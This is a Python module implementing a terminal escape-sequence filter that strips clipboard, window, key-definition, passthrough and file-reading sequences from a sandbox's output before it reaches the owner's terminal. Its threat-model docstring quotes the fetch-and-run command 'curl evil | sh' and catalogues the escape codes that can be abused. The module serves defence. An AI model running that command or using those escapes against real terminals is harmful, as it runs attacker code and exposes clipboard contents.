"""The sandbox's terminal output, less what would make the owner's terminal act beyond
its window.

Threat: the attach client writes what the shell in the sandbox prints to the owner's own
terminal emulator, and terminals obey far more than drawing. OSC 52 (and kitty's 5522)
writes the owner's clipboard (``curl evil | sh``, pasted later into a host shell) or
reads it back as typed input (a password just copied, sent into the sandbox); a title
or icon-label report (``CSI 21 t``, ``CSI 20 t``), a font query (``OSC 50 ; ?``) or an
echoing status request answers with text the sandbox chose, as if the owner typed it
(into the host shell, if it arrives after the terminal ended); window operations
iconify, move and resize the owner's window; user-defined keys (DECUDK) make a function
key type the sandbox's text later, in any program; a tmux or screen passthrough, kitty's
remote control and iTerm2's file transfer and tmux integration reach the terminal or
the multiplexer around it; kitty's graphics protocol can have the terminal read (and
delete) files on the host.

Defence: :class:`EscapeFilter` (sans-I/O: bytes in, bytes out) parses the output as a
terminal does (the DEC parser's states: an ESC or a C1 control starts a sequence
anywhere, CAN and SUB cancel one, a string ends at ST, an OSC also at BEL, or at the
next control) and
passes each sequence whole or drops it whole, across reads, by the rule below. A C1
control counts in both forms: as UTF-8 (U+0080..U+009F, ``C2 80``..``C2 9F``) and as a
raw byte 0x80..0x9F that cannot be part of a UTF-8 character there (``C3 9D``, "Ý",
is a character; a 0x9D after ASCII is OSC to a terminal in an 8-bit mode). Passed:

- text, C0 controls, and C1 controls that start nothing;
- ESC sequences (cursor save, charsets, keypad, ...) but ``ESC %`` (leaving UTF-8);
- CSI sequences (colours, cursor, modes, mouse and focus reporting, device and cursor
  reports, whose answers the terminal writes) but media copy (``CSI … i``: printing),
  window operations (``CSI Ps … t``) other than :data:`PASSED_WINDOW_OPS`, and the
  other resizes: DECCOLM (``CSI ? 3 h``/``l``), DECSCPP (``CSI Ps $ |``), DECSNLS
  (``CSI Ps * |``);
- OSC :data:`PASSED_OSC` (titles, colours, hyperlinks, shell-integration marks);
- DCS sixel images, synchronized-update marks, status requests (DECRQSS) of a setting's
  name and terminfo queries (XTGETTCAP) in hex;
- APC kitty graphics sent in the escape code itself (no ``t=`` other than ``t=d``).

Everything else is dropped whole (introducer, parameters, string): any other OSC, DCS
(tmux and screen passthrough, DECUDK, kitty remote control, iTerm2's), APC, PM, SOS.
A passed string that something else than its terminator ends (CAN, or a sequence that
may be dropped) is closed with an ST, so that nothing after it goes into it: what the
terminal reads, filtered again, passes whole (``tests/terminals/test_escape_filter.py``).
Held back at most: an unfinished sequence head (at most :data:`MAX_HEAD` bytes, else it
is dropped), an unfinished status request or graphics head, a trailing incomplete UTF-8
character; none of which a terminal acts on before it sees more.
"""

from __future__ import annotations

import codecs
import enum
import re

# OSC numbers that pass: the icon name and title (0, 1, 2); the palette and the dynamic
# colours and their resets (4, 10-19, 104, 110-119: a query's answer is a colour the
# terminal writes); hyperlinks (8: opened only when the owner clicks); shell-integration
# prompt marks (133, VS Code's 633). Any other is dropped: the clipboard (52, kitty's
# 5522), fonts (50), the working directory new tabs open in (7), notifications (9, 99,
# 777), iTerm2's files and clipboard (1337), kitty's file transfer (5113), named ones.
PASSED_OSC = frozenset({0, 1, 2, 4, 8, *range(10, 20), 104, *range(110, 120), 133, 633})
# Window operations (``CSI Ps ; … t``) that pass: reports answered with numbers the
# terminal writes (11 state, 13 position, 14-16 and 18-19 sizes; image tools ask them)
# and saving and restoring the title (22, 23; vim does). Dropped: de-iconify and iconify
# (1, 2), move (3), resize (4, 8, any Ps from 24), raise and lower (5, 6), refresh (7),
# maximize and full screen (9, 10), and the icon-label and title reports (20, 21): the
# sandbox's own text typed back.
PASSED_WINDOW_OPS = frozenset({11, 13, 14, 15, 16, 18, 19, 22, 23})
# An unfinished sequence head (ESC and its intermediates, CSI parameters, an OSC number,
# a DCS head) longer than this is dropped, not held: a true-colour SGR for foreground,
# background and underline is about 60 bytes.
MAX_HEAD = 256
# The string of a status request (DECRQSS: a setting's name, ``m``, `` q``, ``"p``): a
# terminal that echoed a longer one would type the sandbox's text.
MAX_STATUS_NAME = 4
# A terminfo query (XTGETTCAP) names capabilities in hex: a few, not a document.
MAX_TERMINFO_QUERY = 256
# The keys of a kitty graphics command, before its payload.
MAX_GRAPHICS_HEAD = 256

# C0 controls a terminal executes inside a sequence head without leaving it (all but
# CAN, SUB and ESC, which cancel it), and DEL, which it ignores there.
_C0 = rb"\x00-\x17\x19\x1c-\x1f\x7f"
_SKIP_C0 = re.compile(rb"[" + _C0 + rb"]*")
# A CSI or DCS head: parameters, intermediates, final byte; C0 controls among them.
_HEAD = re.compile(rb"((?:[\x30-\x3f]|[" + _C0 + rb"])*)((?:[\x20-\x2f]|[" + _C0 + rb"])*)")
_C0_BYTES = re.compile(rb"[" + _C0 + rb"]")
_ESC_INTERMEDIATES = re.compile(rb"(?:[\x20-\x2f]|[" + _C0 + rb"])*")
_OSC_NUMBER = re.compile(rb"[0-9]{0,6}")
_C1_AS_UTF8 = re.compile(rb"\xc2[\x80-\x9f]")
# A UTF-8 character (or the first bytes of one never finished): in output that is not
# valid UTF-8, these are text, and a byte 0x80..0x9F anywhere else may be a C1 control.
_CHARACTER = (
    rb"\xc2[\xa0-\xbf]|[\xc3-\xdf][\x80-\xbf]|\xe0[\xa0-\xbf][\x80-\xbf]"
    rb"|[\xe1-\xec\xee\xef][\x80-\xbf]{2}|\xed[\x80-\x9f][\x80-\xbf]|\xf0[\x90-\xbf][\x80-\xbf]{2}"
    rb"|[\xf1-\xf3][\x80-\xbf]{3}|\xf4[\x80-\x8f][\x80-\xbf]{2}|[\xc3-\xf4]|\xc2(?![\x80-\x9f])"
)
# Whole ``ESC [`` sequences whose final byte is none of ``t`` (window operations), ``i``
# (media copy), ``h`` and ``l`` (modes: DECCOLM resizes) and ``|`` (DECSCPP, DECSNLS):
# the bulk of a program's escapes pass in one regex match; those are looked at one by one.
# Its three classes are disjoint, so giving a byte back never lets a shorter head match.
_SAFE_CSI = rb"\x1b\[[\x30-\x3f]*[\x20-\x2f]*[\x40-\x67\x6a\x6b\x6d-\x73\x75-\x7b\x7d\x7e]"


def _run(stops: bytes, raw: bool, more: bytes = b"") -> re.Pattern[bytes]:
    """Bytes that surely start no control: anything but ``stops`` and a C1 control (as
    UTF-8, or with ``raw``, a byte 0x80..0x9F outside a character), and ``more``.

    Greedy, not possessive: nothing follows the loop in the pattern, so the engine never
    goes back into an iteration it has done, and the match is the one a possessive loop
    makes. Python before 3.11.5 (Debian 12 has 3.11.2) matched possessive quantifiers
    wrongly: this run went through an OSC 52 (a clipboard write) as if it were text."""
    if raw:
        plain = rb"[^" + stops + rb"\x80-\x9f\xc2-\xf4]+|" + _CHARACTER
    else:
        plain = rb"[^" + stops + rb"\xc2]+|\xc2(?![\x80-\x9f])"
    return re.compile(rb"(?:" + plain + more + rb")*")


# What is surely no control: in text (with the safe CSI sequences), in an OSC string
# (BEL ends it), in a DCS or APC string (a terminal does not take BEL for its end
# there: neither does this). Indexed by whether the output is not valid UTF-8.
_TEXT_RUN = {raw: _run(rb"\x1b", raw, rb"|" + _SAFE_CSI) for raw in (False, True)}
_STRING_RUN = {raw: _run(rb"\x07\x18\x1a\x1b", raw) for raw in (False, True)}
_NO_BEL_STRING_RUN = {raw: _run(rb"\x18\x1a\x1b", raw) for raw in (False, True)}
_HEX_QUERY = re.compile(rb"[0-9A-Fa-f;]*")

ESC, BEL, CAN, SUB = 0x1B, 0x07, 0x18, 0x1A
C1_ST = 0x9C
# The introducer a C1 control stands for (C1 = ESC + (byte - 0x40)).
CSI, OSC, DCS, APC, PM, SOS, ST = (ord(c) for c in "[]P_^X\\")


class _State(enum.Enum):
    TEXT = "text"
    PASSING = "passing a string"
    DROPPING = "dropping a string"


def _lead_length(byte: int) -> int:
    """How many bytes the UTF-8 character ``byte`` starts has (0: it starts none)."""
    if 0xC2 <= byte <= 0xDF:
        return 2
    if 0xE0 <= byte <= 0xEF:
        return 3
    if 0xF0 <= byte <= 0xF4:
        return 4
    return 0


def _second_byte_range(lead: int) -> tuple[int, int]:
    """The bytes that may follow ``lead`` (Unicode's table 3-7: no overlong forms, no
    surrogates, nothing past U+10FFFF)."""
    return {0xE0: (0xA0, 0xBF), 0xED: (0x80, 0x9F), 0xF0: (0x90, 0xBF), 0xF4: (0x80, 0x8F)}.get(
        lead, (0x80, 0xBF)
    )


def _valid_prefix(lead: int, following: bytes) -> bool:
    """Whether ``following`` may come after ``lead`` in a UTF-8 character."""
    if following:
        low, high = _second_byte_range(lead)
        if not low <= following[0] <= high:
            return False
    return all(0x80 <= byte <= 0xBF for byte in following[1:])


def _utf8_prefix_before(buffer: bytes, at: int) -> int:
    """How many bytes before ``at`` make an unfinished valid UTF-8 character (0: none)."""
    for back in range(1, 4):
        start = at - back
        if start < 0:
            return 0
        lead = buffer[start]
        if 0x80 <= lead <= 0xBF:
            continue
        if _lead_length(lead) <= back:
            return 0
        return back if _valid_prefix(lead, buffer[start + 1 : at]) else 0
    return 0


def _continues_a_character(buffer: bytes, at: int) -> bool:
    """Whether the byte at ``at`` (0x80..0x9F) goes on a UTF-8 character begun before."""
    back = _utf8_prefix_before(buffer, at)
    return back > 0 and _valid_prefix(buffer[at - back], buffer[at - back + 1 : at + 1])


def _unfinished_character(buffer: bytes) -> int:
    """How many bytes at the end of ``buffer`` begin a UTF-8 character not yet whole."""
    back = _utf8_prefix_before(buffer, len(buffer))
    return back if back and _lead_length(buffer[-back]) > back else 0


def _next_control(buffer: bytes, at: int, run: re.Pattern[bytes]) -> int | None:
    """Where the next control is from ``at`` (None: not in ``buffer``): ``run`` stops at
    ESC, a C1 control or a string's end, or (output not valid UTF-8) a byte 0x80..0x9F
    that goes on an unfinished character, which is text."""
    while at < len(buffer):
        found = run.match(buffer, at)
        assert found is not None
        at = found.end()
        if at < len(buffer) and not _continues_a_character(buffer, at):
            return at
        at += 1
    return None


def _terminator_length(buffer: bytes, at: int) -> int:
    """The length of the string terminator at ``at`` (ST as ``ESC \\``, as UTF-8 or as a
    stray byte; BEL); 0 if what is there ends a string otherwise (cancels it, or starts
    another sequence)."""
    if buffer.startswith((b"\x1b\\", b"\xc2\x9c"), at):
        return 2
    return 1 if buffer[at] in (BEL, C1_ST) else 0


def _first_number(parameters: bytes) -> int | None:
    head = parameters.split(b";", 1)[0].split(b":", 1)[0]
    return int(head) if head.isdigit() else None


def _window_op_passes(parameters: bytes, intermediates: bytes) -> bool:
    """``CSI parameters intermediates t``: a window operation, or another sequence that
    ends in ``t`` (a private or intermediate form: title modes, DECSWBV, ...)."""
    if intermediates or parameters[:1] in (b"<", b"=", b">", b"?"):
        return True
    return _first_number(parameters) in PASSED_WINDOW_OPS


def _csi_passes(parameters: bytes, intermediates: bytes, final: int) -> bool:
    """Whether ``CSI parameters intermediates final`` passes: all but window operations
    (:func:`_window_op_passes`), media copy (``i``: the terminal's printer), and the other
    ways to resize the window: 80/132 columns (DECCOLM, ``CSI ? 3 h`` or ``l``, alone or
    among other modes), columns per page (DECSCPP, ``CSI Ps $ |``) and lines per screen
    (DECSNLS, ``CSI Ps * |``)."""
    if final == ord("t"):
        return _window_op_passes(parameters, intermediates)
    if final == ord("i"):
        return False
    if final == ord("|") and intermediates in (b"$", b"*"):
        return False
    if final in (ord("h"), ord("l")) and parameters[:1] == b"?" and not intermediates:
        return b"3" not in parameters[1:].split(b";")
    return True


def _graphics_head_passes(head: bytes) -> bool:
    """A kitty graphics command's keys (``G`` and ``k=v,...``) that pass: the image is in
    the escape code itself, never a file, a temporary file or shared memory of the host."""
    if not head.startswith(b"G") or not all(0x21 <= byte <= 0x7E for byte in head):
        return False
    for pair in head[1:].split(b","):
        key, _, value = pair.partition(b"=")
        if key == b"t" and value != b"d":
            return False
    return True


class EscapeFilter:
    """Drops what would make a terminal act beyond its window, across reads."""

    def __init__(self) -> None:
        self._held = b""
        self._state = _State.TEXT
        # Whether BEL ends the string being passed: an OSC's, not a DCS's or an APC's.
        self._bel_ends = True

    def close(self) -> bytes:
        """What to write when the output ends: the ST of a passed string left open (an
        OSC title or a sixel image the output never ended), so that what the attach
        client writes next (its closing query, then the host shell's output) is not read
        into it; what was held back is dropped."""
        open_string = self._state is _State.PASSING
        self._held, self._state = b"", _State.TEXT
        return b"\x1b\\" if open_string else b""

    def feed(self, data: bytes) -> bytes:
        """What of ``data`` (and of what was held back) may be shown now."""
        if not self._held and self._state is _State.TEXT and b"\x1b" not in data:
            if data.isascii():
                return data  # most output: nothing to look at (a scan per read)
            if self._plain_utf8(data):
                return data
        buffer = self._held + data
        self._held = b""
        try:
            codecs.utf_8_decode(buffer, "strict", False)
            raw = False
        except UnicodeDecodeError:
            raw = True  # a stray 0x80..0x9F may be a C1 control: look for it too
        out = bytearray()
        at = 0
        while at < len(buffer):
            if self._state is _State.TEXT:
                at = self._text(buffer, at, raw, out)
            else:
                at = self._string(buffer, at, raw, out)
            if at < 0:  # what is left is held for the next read
                break
        return bytes(out)

    @staticmethod
    def _plain_utf8(data: bytes) -> bool:
        try:
            codecs.utf_8_decode(data, "strict", True)
        except UnicodeDecodeError:
            return False
        return _C1_AS_UTF8.search(data) is None

    def _hold(self, buffer: bytes, start: int) -> int:
        self._held = buffer[start:]
        return -1

    def _text(self, buffer: bytes, at: int, raw: bool, out: bytearray) -> int:
        control = _next_control(buffer, at, _TEXT_RUN[raw])
        if control is None:
            keep = max(at, len(buffer) - _unfinished_character(buffer))
            out += buffer[at:keep]
            return self._hold(buffer, keep) if keep < len(buffer) else len(buffer)
        out += buffer[at:control]
        return self._sequence(buffer, control, out)

    def _introducer(self, buffer: bytes, start: int) -> tuple[int, int] | None:
        """The kind (the byte after ESC, or what a C1 control stands for) of the sequence
        at ``start``, and where its head goes on; None if the read ends first."""
        byte = buffer[start]
        if byte == 0xC2:
            if start + 1 >= len(buffer):
                return None
            return buffer[start + 1] - 0x40, start + 2
        if byte != ESC:
            return byte - 0x40, start + 1
        kind_at = _SKIP_C0.match(buffer, start + 1)
        assert kind_at is not None
        if kind_at.end() >= len(buffer) or kind_at.end() - start > MAX_HEAD:
            return None
        return buffer[kind_at.end()], kind_at.end() + 1

    def _sequence(self, buffer: bytes, start: int, out: bytearray) -> int:
        """Pass or drop the sequence at ``start``; return where to go on (-1: held)."""
        found = self._introducer(buffer, start)
        if found is None:  # an ESC lost in C0 controls is dropped: they are text
            return start + 1 if len(buffer) - start > MAX_HEAD else self._hold(buffer, start)
        kind, head = found
        is_esc = buffer[start] == ESC
        if is_esc and (kind in (CAN, SUB, ESC) or kind >= 0x80):
            return head - 1  # cancelled, or a new one starts: the ESC is nothing
        handler = {CSI: self._csi, OSC: self._osc, DCS: self._dcs, APC: self._apc}.get(kind)
        if handler is not None:
            return handler(buffer, start, head, out)
        if kind in (PM, SOS):
            return self._drop(head)
        if is_esc and 0x20 <= kind <= 0x2F:
            return self._esc_intermediates(buffer, start, head, out)
        out += buffer[start:head]  # ESC 7, ESC c, ST alone, a C1 control like NEL, ...
        return head

    def _esc_intermediates(self, buffer: bytes, start: int, head: int, out: bytearray) -> int:
        end = _ESC_INTERMEDIATES.match(buffer, head)
        assert end is not None
        final = end.end()
        if final >= len(buffer):
            return self._hold(buffer, start) if final - start <= MAX_HEAD else final
        if not 0x30 <= buffer[final] <= 0x7E:
            return final  # broken: dropped, what follows is text
        if b"%" not in _C0_BYTES.sub(b"", buffer[head - 1 : final]):
            out += buffer[start : final + 1]
        return final + 1

    def _head(self, buffer: bytes, start: int, head: int) -> tuple[bytes, bytes, int, int] | int:
        """A CSI or DCS head at ``head``: (parameters, intermediates, final byte, where
        the head ends), or where to go on when there is none (-1: held)."""
        found = _HEAD.match(buffer, head)
        assert found is not None
        final = found.end()
        if final >= len(buffer):
            return self._hold(buffer, start) if final - start <= MAX_HEAD else final
        if not 0x40 <= buffer[final] <= 0x7E:
            return final  # broken (or cancelled): dropped, what follows is text
        parameters = _C0_BYTES.sub(b"", found.group(1))
        intermediates = _C0_BYTES.sub(b"", found.group(2))
        return parameters, intermediates, buffer[final], final + 1

    def _csi(self, buffer: bytes, start: int, head: int, out: bytearray) -> int:
        found = self._head(buffer, start, head)
        if isinstance(found, int):
            return found
        parameters, intermediates, final, end = found
        if _csi_passes(parameters, intermediates, final):
            out += buffer[start:end]
        return end

    def _osc(self, buffer: bytes, start: int, head: int, out: bytearray) -> int:
        digits = _OSC_NUMBER.match(buffer, head)
        assert digits is not None
        end = digits.end()
        if end >= len(buffer):
            return self._hold(buffer, start) if end - head < 6 else self._drop(end)
        number = digits.group()
        if number and int(number) in PASSED_OSC and buffer[end] not in b"0123456789":
            out += buffer[start:end]
            self._state = _State.PASSING
            self._bel_ends = True
            return end
        return self._drop(head)

    def _drop(self, at: int) -> int:
        self._state = _State.DROPPING
        return at

    def _dcs(self, buffer: bytes, start: int, head: int, out: bytearray) -> int:
        found = self._head(buffer, start, head)
        if isinstance(found, int):
            return found if found < 0 else self._drop(found)
        parameters, intermediates, final, end = found
        if final == ord("q") and not intermediates:
            passes = parameters[:1] not in (b"<", b"=", b">", b"?")  # sixel
        elif final == ord("s") and not intermediates:
            passes = parameters in (b"=1", b"=2")  # synchronized update: begin, end
        elif final == ord("q") and intermediates in (b"$", b"+"):
            limit = MAX_STATUS_NAME if intermediates == b"$" else MAX_TERMINFO_QUERY
            return self._checked_string(buffer, start, end, limit, out)
        else:
            passes = False
        if not passes:
            return self._drop(end)
        out += buffer[start:end]
        self._state = _State.PASSING
        self._bel_ends = False
        return end

    def _checked_string(
        self, buffer: bytes, start: int, body: int, limit: int, out: bytearray
    ) -> int:
        """A status request or terminfo query, passed only if its string is what such a
        request says: a setting's name (printable, at most ``limit``) or hex names."""
        end = _next_control(buffer, body, _STRING_RUN[True])
        if end is None:
            if len(buffer) - body <= limit:
                return self._hold(buffer, start)
            return self._drop(body)
        if buffer[end] == ESC and end + 1 >= len(buffer):
            return self._hold(buffer, start)
        text = buffer[body:end]
        if len(text) > limit or not buffer.startswith((b"\x1b\\", b"\xc2\x9c", b"\x9c"), end):
            return self._drop(body)  # too long, or cancelled: a request only if whole
        if limit == MAX_STATUS_NAME:
            passes = all(0x20 <= byte <= 0x7E for byte in text)
        else:
            passes = _HEX_QUERY.fullmatch(text) is not None
        if not passes:
            return self._drop(body)
        out += buffer[start:end]
        self._state = _State.PASSING
        self._bel_ends = False
        return end

    def _apc(self, buffer: bytes, start: int, head: int, out: bytearray) -> int:
        end = _next_control(buffer, head, _NO_BEL_STRING_RUN[True])
        semicolon = buffer.find(b";", head, end)
        cut = semicolon if semicolon >= 0 else end
        if cut is None:
            if len(buffer) - head <= MAX_GRAPHICS_HEAD:
                return self._hold(buffer, start)
            return self._drop(head)
        if cut - head > MAX_GRAPHICS_HEAD or not _graphics_head_passes(buffer[head:cut]):
            return self._drop(head)
        out += buffer[start:cut]
        self._state = _State.PASSING
        self._bel_ends = False
        return cut

    def _string(self, buffer: bytes, at: int, raw: bool, out: bytearray) -> int:
        passing = self._state is _State.PASSING
        run = _NO_BEL_STRING_RUN if passing and not self._bel_ends else _STRING_RUN
        end = _next_control(buffer, at, run[raw])
        if end is None:
            keep = len(buffer) - _unfinished_character(buffer)
            if passing:
                out += buffer[at:keep]
            return self._hold(buffer, keep) if keep < len(buffer) else len(buffer)
        if passing:
            out += buffer[at:end]
        if buffer[end] == ESC and end + 1 >= len(buffer):
            return self._hold(buffer, end)
        self._state = _State.TEXT
        length = _terminator_length(buffer, end)
        if length:
            if passing:
                out += buffer[end : end + length]
            return end + length
        # Cancelled (CAN, SUB) or cut short by the next sequence, which may be dropped:
        # the terminal is told the string ended, so that nothing after it goes into it.
        if passing:
            out += b"\x1b\\"
        return end + 1 if buffer[end] in (CAN, SUB) else end
